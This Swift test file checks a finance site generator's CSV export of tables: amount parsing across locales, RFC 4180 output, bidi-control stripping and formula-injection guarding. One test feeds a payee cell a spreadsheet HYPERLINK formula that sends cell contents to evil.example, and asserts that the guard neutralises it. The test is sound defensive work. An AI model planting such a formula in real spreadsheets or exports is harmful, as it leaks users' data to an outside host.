import Foundation
import Testing
@testable import NestEggBuild
@testable import NestEggLoad
@testable import NestEggModel
@testable import NestEggReport
@testable import NestEggRender
@testable import NestEggSupport

/// Every table as CSV (issue 35): each table of a page is a CSV beside it, with the page's rows and
/// cells, each cell guarded against formulas, and linked under its table in the Markdown and the HTML.
@Suite struct TableCSVTests {
    /// RFC 4180 read back: rows of fields (CRLF line ends; quoted fields may hold anything).
    static func parse(_ csv: String) -> [[String]]? {
        var rows: [[String]] = [], row: [String] = [], field = "", quoted = false, atStart = true
        var scalars = Array(csv.unicodeScalars)[...]
        while let c = scalars.popFirst() {
            if quoted {
                if c == "\"" {
                    if scalars.first == "\"" { scalars.removeFirst(); field.unicodeScalars.append("\"") } else { quoted = false }
                } else { field.unicodeScalars.append(c) }
            } else if c == "\"" && atStart {
                quoted = true; atStart = false
            } else if c == "," {
                row.append(field); field = ""; atStart = true
            } else if c == "\r" {
                guard scalars.popFirst() == "\n" else { return nil }
                row.append(field); rows.append(row); row = []; field = ""; atStart = true
            } else if c == "\"" || c == "\n" {
                return nil  // a quote or a bare line end in an unquoted field
            } else {
                field.unicodeScalars.append(c); atStart = false
            }
        }
        return quoted || !row.isEmpty || !field.isEmpty ? nil : rows
    }

    static func cells(_ markdown: String) -> [[String]] { TableCSV.tables(in: markdown).first?.rows ?? [] }

    /// A CSV's plain decimal (`-1234.56`) as money of `currency` (ISO code), if it is one with the
    /// currency's own minor digits: the tests' reading, apart from the locale's.
    static func money(decimal: String, currency code: String) -> Money? {
        guard let currency = Currency(code: code),
              let match = decimal.wholeMatch(of: /(-?)([0-9]+)(?:\.([0-9]+))?/) else { return nil }
        let fraction = match.3.map(String.init) ?? ""
        guard fraction.count == currency.minorDigits, let whole = Int128(String(match.2)) else { return nil }
        let minor = whole * Int128(currency.minorUnitsPerUnit) + (Int128(fraction) ?? 0)
        return Money(minorUnits: match.1.isEmpty ? minor : -minor, currency: currency)
    }

    /// Amounts read back exactly as each locale writes them, and nothing else read as one.
    @Test func anAmountIsReadBackExactlyAsTheLocaleWritesIt() {
        let amounts: [Money] = [gbp(-123456), gbp(0), usd(1_234_567_890), Money(minorUnits: -5, currency: Currency(code: "JPY")!),
                                Money(minorUnits: 999, currency: Currency(code: "CHF")!)]
        for locale in SiteLocale.all {
            for amount in amounts {
                #expect(locale.money(parsing: locale.format(amount)) == amount, "\(locale.identifier) \(locale.format(amount))")
            }
        }
        #expect(SiteLocale.enGB.money(parsing: "+£12.50") == gbp(1250))
        for text in ["£1234.56", "£1,234.5", "-12%", "£5.00 (50%)", "£", "1.00£", "-£0.00", "US$1,23.00", "£1,234.56x", "GBP 1.00"] {
            #expect(SiteLocale.enGB.money(parsing: text) == nil, "\(text)")
        }
    }

    /// One rule says whether a cell is an amount (``SiteLocale/money(parsing:)``), and the table
    /// CSV and the formula guard both follow it: in every locale, a cell the CSV writes as a plain
    /// decimal is one the rule reads as an amount, and the other way round; every other cell is the
    /// text shown, guarded, so that no cell starts with a formula character but an amount's decimal.
    @Test func theCSVAndTheGuardAgreeOnWhatIsAnAmount() throws {
        var random = RecurringTests.Seeded(state: 35)
        let currencies = ["GBP", "EUR", "USD", "JPY", "CHF", "HKD"].compactMap { Currency(code: $0) }
        let pieces = ["-", "+", "£", "€", "US$", "$", "HK$", "JP¥", "£GB", "GBP\u{A0}", "CHF\u{A0}", "\u{A0}€", "\u{A0}£",
                      "0", "1", "12", "234", "5.00", ",56", ".", ",", "\u{202F}", "%", " ", "(50%)", "=", "@", "e5",
                      "\u{202E}", "\u{2066}", "\u{200F}"]
        let handPicked = ["-£0.01", "£1,234.56", "€5", "12%", "-12%", "£5.00 (50%)", "=1+1", "-", "+", "£", "-£", "",
                          "\u{202E}-£3.20", "-\u{202E}£3.20", "£3.20\u{2069}", "\u{2066}=1+1\u{2069}", "+£12.50", "-0,01\u{A0}€",
                          "-1.234,56\u{A0}€", "-1\u{202F}234,56\u{A0}€", "-£0.00", "£1234.56", "-1", "+1", "-1e5", "US$7.00", "$7.00"]
        let samples = (0..<3_000).map { _ in
            (0..<Int.random(in: 1...6, using: &random)).map { _ in pieces.randomElement(using: &random)! }.joined()
        }
        for locale in SiteLocale.all {
            // What the locale writes, and a slip of it (a character dropped, a bidi control put in).
            var written: [String] = []
            for _ in 0..<300 {
                let amount = Money(minorUnits: Int128(Int64.random(in: -10_000_000...10_000_000, using: &random)),
                                   currency: currencies.randomElement(using: &random)!)
                var text = locale.format(amount)
                written.append(text)
                let place = text.index(text.startIndex, offsetBy: Int.random(in: 0..<text.count, using: &random))
                if Bool.random(using: &random) { text.remove(at: place) } else { text.insert("\u{202E}", at: place) }
                written.append(text)
            }
            var failures: [String] = []
            var amounts = 0
            for text in handPicked + samples + written {
                // One cell a table: its column's currency then goes in the header.
                let markdown = "| x |\n| --- |\n| \(Escape.value(text, at: .tableCell)) |\n"
                guard let table = TableCSV.tables(in: markdown).first, table.rows.count == 2 else { continue }
                let shown = table.rows[1][0]
                guard let rows = Self.parse(table.csv(locale: locale)), rows.count == 2, let cell = rows[1].first else {
                    failures.append("\(text.debugDescription): not one cell"); continue
                }
                let bare = Text.withoutBidiControls(shown)
                let amount = locale.money(parsing: bare)
                if let amount {
                    amounts += 1
                    let decimal = rows[0] == ["x (\(amount.currency.code))"] ? Self.money(decimal: cell, currency: amount.currency.code) : nil
                    if decimal != amount { failures.append("\(text.debugDescription): an amount written as \(rows.debugDescription)") }
                } else {
                    // The guard's own oracle: OWASP's characters, a `'` before them, a signed number exempt.
                    let signedNumber = bare.wholeMatch(of: /[+-][0-9]+([.,][0-9]+)*%?/) != nil
                    let expected = ["=", "+", "-", "@", "\t", "\r"].contains(bare.first.map(String.init) ?? "") && !signedNumber ? "'" + bare : bare
                    if rows != [["x"], [expected]] { failures.append("\(text.debugDescription): text written as \(rows.debugDescription)") }
                }
                if let first = cell.unicodeScalars.first, CSVCell.formulaStarts.contains(first), amount == nil,
                   cell.wholeMatch(of: /[+-][0-9]+([.,][0-9]+)*%?/) == nil {
                    failures.append("\(text.debugDescription): \(cell.debugDescription) starts a formula")
                }
            }
            #expect(amounts > 300, "\(locale.identifier): \(amounts) amounts")
            #expect(failures.isEmpty, "\(locale.identifier): \(failures.count): \(failures.prefix(8))")
        }
        // The hand-picked cells in en_GB, as a spreadsheet gets them.
        let csv = { (text: String) in Self.parse(TableCSV.tables(in: "| x |\n| --- |\n| \(text) |\n").first!.csv(locale: .enGB))?.last?.first }
        #expect(csv("-£0.01") == "-0.01" && csv("£1,234.56") == "1234.56" && csv("\u{202E}-£3.20") == "-3.20")
        #expect(csv("€5") == "€5" && csv("12%") == "12%" && csv("-12%") == "-12%" && csv("£5.00 (50%)") == "£5.00 (50%)")
        #expect(csv("=1+1") == "'=1+1" && csv("-") == "'-" && csv("£1234.56") == "£1234.56" && csv("+£12.50") == "12.50")
    }

    @Test func aColumnOfSeveralCurrenciesGetsACurrencyColumn() throws {
        let markdown = "| Account | Balance | Share |\n| --- | ---: | ---: |\n| A | -£1,234.56 | -12% |\n| B | US$7.00 | 3% |\n| C | – | – |\n"
        let csv = try #require(TableCSV.tables(in: markdown).first).csv(locale: .enGB)
        #expect(csv == "Account,Balance,Balance currency,Share\r\nA,-1234.56,GBP,-12%\r\nB,7.00,USD,3%\r\nC,–,,–\r\n")
        let named = try #require(TableCSV.tables(in: "| Account | In GBP |\n| --- | --: |\n| A | £2.00 |\n").first).csv(locale: .enGB)
        #expect(named == "Account,In GBP\r\nA,2.00\r\n")
    }

    @Test func anEscapedPipeStaysInItsCell() {
        #expect(Self.cells("| a \\| b | c |\n| --- | --- |\n| 1 \\| 2 | 3 |\n") == [["a | b", "c"], ["1 | 2", "3"]])
    }

    @Test func markdownInACellIsItsText() {
        let rows = Self.cells("| Payee | Note |\n| --- | --- |\n| [**Tesco** _Metro_](payees/tesco.md) | `code` and ~~old~~<br>new |\n")
        #expect(rows == [["Payee", "Note"], ["Tesco Metro", "code and old new"]])
    }

    @Test func aFormulaFromDataIsText() throws {
        let payee = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
        let markdown = "| Payee | Amount |\n| --- | ---: |\n| \(Escape.value(payee, at: .tableCell)) | -£1,234.56 |\n| @SUM(A1) | +1 |\n"
        let table = try #require(TableCSV.tables(in: markdown).first)
        #expect(table.rows[1][0] == payee)
        let csv = table.csv(locale: .enGB)
        // The formulas are guarded; the amount is a plain decimal (its currency in the header); a
        // signed number that is no amount holds no formula and stays a number.
        #expect(csv == "Payee,Amount (GBP)\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",-1234.56\r\n'@SUM(A1),+1\r\n")
        let parsed = try #require(Self.parse(csv))
        #expect(parsed.joined().allSatisfy { field in !["=", "+", "-", "@"].contains(field.first.map(String.init) ?? "") || field == "-1234.56" || field == "+1" })
    }

    @Test func nonASCIIAndBidiControls() throws {
        let markdown = "| Payee |\n| --- |\n| Café Zoë — 日本 🙂 |\n| \u{202E}1.00£ evil |\n| \u{2068}שלום\u{2069} |\n"
        let csv = try #require(TableCSV.tables(in: markdown).first).csv(locale: .enGB)
        #expect(csv == "Payee\r\nCafé Zoë — 日本 🙂\r\n1.00£ evil\r\nשלום\r\n")
        #expect(!csv.unicodeScalars.contains(where: Text.isBidiControl))
    }

    @Test func shortRowsArePaddedAndWidthIsTheHeaders() throws {
        let table = try #require(TableCSV.tables(in: "| a | b | c |\n| - | - | - |\n| 1 |\n").first)
        #expect(try #require(Self.parse(table.csv(locale: .enGB))) == [["a", "b", "c"], ["1", "", ""]])
    }

    /// What ``TableCSV/link(plain:document:page:locale:)`` gives for two flavours of a page.
    static func link(plain: String, forHTML: String, page: Substring) throws -> (plain: String, html: String, csvs: [String]) {
        let document = try #require(CMark.Document(forHTML))
        let linked = TableCSV.link(plain: MarkdownTablePadding.padded(plain), document: document, page: page, locale: .enGB)
        return (linked.plain, document.html(rewriteLink: { _ in nil }, headingOffset: 0, unlinkingUnsafe: true).html, linked.csvs)
    }

    @Test func eachTableIsLinkedUnderItselfInBothFlavours() throws {
        let plain = "# T\n\n| a |\n| - |\n| 1 |\n\nText.\n\n| b |\n| - |\n| 2 |\n| 3 |\n"
        // The HTML flavour has a table of its own (a chart's data) before the second.
        let forHTML = "# T\n\n| a |\n| - |\n| 1 |\n\nText.\n\n| only HTML |\n| - |\n| x |\n\n| b |\n| - |\n| 2 |\n| 3 |\n"
        let linked = try Self.link(plain: plain, forHTML: forHTML, page: "week")
        #expect(linked.plain == MarkdownTablePadding.pad("# T\n\n| a |\n| - |\n| 1 |\n\n[This table as CSV](week.table-1.csv)\n\nText.\n\n| b |\n| - |\n| 2 |\n| 3 |\n\n[This table as CSV](week.table-3.csv)\n"))
        // The links added to the tree are what cmark makes of the same links written as lines.
        let linkedHTML = "# T\n\n| a |\n| - |\n| 1 |\n\n[This table as CSV](week.table-1.csv)\n\nText.\n\n| only HTML |\n| - |\n| x |\n\n[This table as CSV](week.table-2.csv)\n\n| b |\n| - |\n| 2 |\n| 3 |\n\n[This table as CSV](week.table-3.csv)\n"
        #expect(linked.html == CMark.html(from: linkedHTML))
        #expect(linked.csvs == ["a\r\n1\r\n", "only HTML\r\nx\r\n", "b\r\n2\r\n3\r\n"])
        #expect(linked.html.contains("</table>\n<p><a href=\"week.table-1.csv\">This table as CSV</a></p>"))
        #expect(TableCSV.tables(in: linked.plain).map(\.rows) == TableCSV.tables(in: plain).map(\.rows))
    }

    /// The padding's tables are cmark's top-level tables, line for line: a table in a list, a
    /// quote or fenced code is not one, a header may follow a paragraph's line, a short row counts.
    @Test func thePaddingFindsTheTablesCmarkFinds() {
        let markdown = """
            Text
            | a | b |
            |---|--:|
            | 1 | 2 |
            | 3 |

            - | in | list |
              |----|------|
              | x  | y    |

            > | quoted |
            > |--------|

            ```
            | fenced |
            |--------|
            ```

            | c |
            |:-:|
            """
        let cmark = TableCSV.tables(in: markdown).filter(\.topLevel).map { [$0.rows.count, $0.rows.first?.count ?? 0, $0.endLine] }
        let padding = MarkdownTablePadding.padded(markdown).tables.map { [$0.rows, $0.columns, $0.endLine] }
        #expect(cmark == [[3, 2, 5], [1, 1, 20]])
        #expect(padding == cmark)
    }

    @Test func aPageWithoutTablesIsUnchanged() throws {
        let linked = try Self.link(plain: "# a | b\n\nx | y\n", forHTML: "# a | b\n", page: "p")
        #expect(linked.plain == "# a | b\n\nx | y\n" && linked.html == CMark.html(from: "# a | b\n") && linked.csvs.isEmpty)
    }

    /// Property: any string from data, placed in a table cell as the templates place it, comes back
    /// as one cell of one row: the text the page shows, without bidirectional controls, guarded.
    @Test func anyStringInACellIsOneGuardedCell() throws {
        let strings = PropertyStrings.make(count: 20_000)
        var markdown = "| Name | n |\n| --- | ---: |\n"
        for (index, value) in strings.enumerated() { markdown += "| \(Escape.value(value, at: .tableCell)) | \(index) |\n" }
        let table = try #require(TableCSV.tables(in: markdown).first)
        try #require(table.rows.count == strings.count + 1)
        let rows = try #require(Self.parse(table.csv(locale: .enGB)))
        try #require(rows.count == strings.count + 1)
        var failures: [String] = []
        // Data text that happens to be exactly an amount as the page writes it is read as one: then
        // the header says its currency (one) or a currency column follows (several).
        let mixed = rows[0].count == 3
        for (index, value) in strings.enumerated() {
            let text = Text.withoutBidiControls(Oracle.normalised(value))
            let expected = CSVCell.guarded(text)
            let row = rows[index + 1]
            if row == (mixed ? [expected, "", String(index)] : [expected, String(index)]) { continue }
            let currency = mixed ? row[1] : String(rows[0][0].dropFirst("Name (".count).dropLast())
            if let amount = Self.money(decimal: row[0], currency: currency), SiteLocale.enGB.format(amount) == text.replacingOccurrences(of: "+", with: "") { continue }
            failures.append("\(value.debugDescription) → \(row.debugDescription)")
        }
        #expect(failures.isEmpty, "\(failures.count): \(failures.prefix(8))")
    }
}

/// The fixture site: every table of every page's HTML has its CSV beside the page, linked right
/// under it, with the same rows and cells; every table of its Markdown too.
@Suite struct TableCSVEndToEndTests {
    /// The tables of an HTML page, as (cells by row, the link right after the table, if any: the
    /// HTML polish wraps a table in a scrolling `div`).
    static func htmlTables(_ html: String) -> [(rows: [[String]], link: String?)] {
        var tables: [(rows: [[String]], link: String?)] = []
        var rest = html[...]
        while let open = rest.range(of: "<table"), let close = rest[open.upperBound...].range(of: "</table>") {
            let body = rest[open.upperBound..<close.lowerBound]
            var rows: [[String]] = []
            for row in body.components(separatedBy: "<tr").dropFirst() {
                var cells: [String] = []
                var cellRest = row[...]
                while let start = cellRest.range(of: #"<t[hd]( [^>]*)?>"#, options: .regularExpression),
                      let end = cellRest[start.upperBound...].range(of: #"</t[hd]>"#, options: .regularExpression) {
                    cells.append(text(of: String(cellRest[start.upperBound..<end.lowerBound])))
                    cellRest = cellRest[end.upperBound...]
                }
                rows.append(cells)
            }
            rest = rest[close.upperBound...]
            let after = rest.prefix(200)
            let link = after.range(of: #"^\s*(</div>\s*)?<p><a href="([^"]+\.table-[0-9]+\.csv)">This table as CSV</a></p>"#, options: .regularExpression)
                .flatMap { range in after[range].range(of: #"[^"]+\.csv"#, options: .regularExpression).map { String(after[$0]) } }
            tables.append((rows, link))
        }
        return tables
    }

    /// Where a CSV read back differs from its HTML table (`nil`: nowhere). The CSV's header names
    /// each column's currency (`Amount (GBP)`) or is followed by a currency column (`Amount
    /// currency`); a cell with a currency is a plain decimal that the site's locale writes as the
    /// page's cell; every other cell is the page's text, guarded; no cell is left an amount as shown.
    static func differs(csv: [[String]], page: [[String]], locale: SiteLocale = .enGB) -> String? {
        guard let header = csv.first, let pageHeader = page.first else { return "empty" }
        var csvColumn = 0
        for (column, name) in pageHeader.enumerated() {
            guard csvColumn < header.count else { return "header \(header) against \(pageHeader)" }
            let heading = header[csvColumn]
            // `Amount (GBP)`, or a header that names its currency already (`In GBP`).
            let single = heading.wholeMatch(of: /(.*?) ?\(([A-Z]{3})\)/).map { (String($0.1), String($0.2)) }
                ?? heading.split(separator: " ").first { $0.count == 3 && Currency(code: String($0)) != nil && $0.allSatisfy(\.isUppercase) }
                    .map { (heading, String($0)) }
            let perRow = csvColumn + 1 < header.count && header[csvColumn + 1] == (name.isEmpty ? "Currency" : "\(name) currency")
                && !(column + 1 < pageHeader.count && pageHeader[column + 1] == header[csvColumn + 1])
            if single == nil && heading != CSVCell.guarded(Text.withoutBidiControls(name)) { return "header \(heading) for \(name)" }
            if let single, single.0 != name { return "header \(heading) for \(name)" }
            for (csvRow, pageRow) in zip(csv.dropFirst(), page.dropFirst()) {
                let shown = Text.withoutBidiControls(column < pageRow.count ? pageRow[column] : "")
                let cell = csvRow[csvColumn]
                let currency = perRow ? csvRow[csvColumn + 1] : single?.1
                if let currency, !currency.isEmpty, let amount = TableCSVTests.money(decimal: cell, currency: currency) {
                    if locale.format(amount) != shown.replacingOccurrences(of: "+", with: "") { return "\(cell) \(currency) shown as \(shown)" }
                } else if cell != CSVCell.guarded(shown) {
                    return "\(cell.debugDescription) for \(shown.debugDescription)"
                } else if locale.money(parsing: shown) != nil {
                    return "\(shown) left as shown"
                }
            }
            csvColumn += perRow ? 2 : 1
        }
        return csvColumn == header.count ? nil : "\(header.count - csvColumn) columns more than the page"
    }

    /// A cell's text as a reader reads it: an inline chart (a picture) and tags out, entities decoded.
    static func text(of html: String) -> String {
        var text = html.replacingOccurrences(of: "<svg.*?</svg>", with: "", options: .regularExpression)
            .replacingOccurrences(of: "<br */?>", with: " ", options: .regularExpression)
            .replacingOccurrences(of: "<[^>]*>", with: "", options: .regularExpression)
        for (entity, character) in [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"), ("&nbsp;", "\u{A0}"), ("&amp;", "&")] {
            text = text.replacingOccurrences(of: entity, with: character)
        }
        return text.trimmingCharacters(in: [" "])
    }

    @Test func everyTableOnTheFixtureSiteHasItsCSV() throws {
        let work = try temporaryFolder()
        defer { try? FileManager.default.removeItem(at: work) }
        let site = work.appendingPathComponent("site")
        var build = Build(options: BuildOptions(data: repositoryRoot.appendingPathComponent("Fixtures"), output: site))
        build.progress = { _ in }
        _ = try build.run()
        let files = snapshot(site)
        var tablesSeen = 0, amountsSeen = 0, failures: [String] = []
        var csvsLinked: Set<String> = []
        // The pages whose report says their tables have no CSV (``Page/tablesAsCSV``): the statements
        // and the page for missing addresses. The same rule the renderer reads, from the same report.
        let log = DiagnosticLog()
        let dataset = DataLoader.load(try DataFolder(root: repositoryRoot.appendingPathComponent("Fixtures")), log: log)
        let reported = SiteReport.build(dataset)
        let noCSV = Set((reported.pages + [SiteMeta.notFoundPage(site: reported)]).filter { !$0.tablesAsCSV }.map(\.path))
        #expect(noCSV.contains("404") && noCSV.contains { $0.hasPrefix("statements/") })
        for (path, data) in files.sorted(by: { $0.key < $1.key })
        where path.hasSuffix(".html") && !noCSV.contains(String(path.dropLast(5))) {
            let folder = path.contains("/") ? String(path[..<path.lastIndex(of: "/")!]) + "/" : ""
            for (index, table) in Self.htmlTables(String(decoding: data, as: UTF8.self)).enumerated() {
                tablesSeen += 1
                guard let link = table.link else { failures.append("\(path): table \(index + 1) has no CSV link"); continue }
                csvsLinked.insert(folder + link)
                guard let csv = files[folder + link], let rows = TableCSVTests.parse(String(decoding: csv, as: UTF8.self)) else {
                    failures.append("\(path): \(link) missing or not RFC 4180"); continue
                }
                if rows.count != table.rows.count { failures.append("\(path): \(link) has \(rows.count) rows, the page \(table.rows.count)"); continue }
                if let difference = Self.differs(csv: rows, page: table.rows) { failures.append("\(path): \(link): \(difference)") }
                amountsSeen += rows.dropFirst().reduce(0) { $0 + $1.filter { $0.wholeMatch(of: /-?[0-9]+\.[0-9]{2}/) != nil }.count }
            }
        }
        // Each table of the Markdown links, on the line after the next, to a CSV of its rows and columns.
        for (path, data) in files where path.hasSuffix(".md") && !noCSV.contains(String(path.dropLast(3))) {
            let markdown = String(decoding: data, as: UTF8.self)
            let lines = markdown.split(separator: "\n", omittingEmptySubsequences: false)
            let folder = path.contains("/") ? String(path[..<path.lastIndex(of: "/")!]) + "/" : ""
            for (index, table) in TableCSV.tables(in: markdown).enumerated() {
                let line = table.endLine + 1  // 0-based: the line after the blank one
                guard line < lines.count, let match = lines[line].wholeMatch(of: /\[This table as CSV\]\(([^)]+)\)/) else {
                    failures.append("\(path): table \(index + 1) not linked"); continue
                }
                let name = folder + String(match.1)
                guard let csv = files[name], let rows = TableCSVTests.parse(String(decoding: csv, as: UTF8.self)) else {
                    failures.append("\(path): \(name) missing"); continue
                }
                // (A column of several currencies has its currency column beside it in the CSV.)
                if rows.count != table.rows.count || (rows.first?.count ?? 0) < (table.rows.first?.count ?? 0) {
                    failures.append("\(path): \(name) is not the shape of table \(index + 1)")
                }
            }
        }
        let written = Set(files.keys.filter { $0.contains(".table-") && $0.hasSuffix(".csv") })
        #expect(tablesSeen > 50)
        #expect(amountsSeen > 500)
        #expect(written == csvsLinked, "CSVs no HTML table links: \(written.subtracting(csvsLinked).sorted().prefix(5))")
        #expect(failures.isEmpty, "\(failures.count): \(failures.prefix(10).joined(separator: "\n"))")
    }

    /// A page's table CSVs are found by the last `.table-` in their path, whatever comes before it,
    /// and listed in table order (2 before 12), whichever order the files come in.
    @Test func tableFilesGoWithTheirPage() {
        let files = ["a/b.md", "a/b.table-12.csv", "a/b.table-2.csv", "a/b.table-x.table-2.csv", "a/b.table-x.csv", "c.csv",
                     "statements/x/2026-10.csv"]
        #expect(TableCSV.filesByPage(among: files) == ["a/b": ["a/b.table-2.csv", "a/b.table-12.csv"],
                                                       "a/b.table-x": ["a/b.table-x.table-2.csv"]])
        #expect(TableCSV.filesByPage(among: files.reversed()) == TableCSV.filesByPage(among: files))
    }
}

extension Page {
    static func fileName(ofPath path: String) -> Substring {
        path.lastIndex(of: "/").map { path[path.index(after: $0)...] } ?? path[...]
    }
}
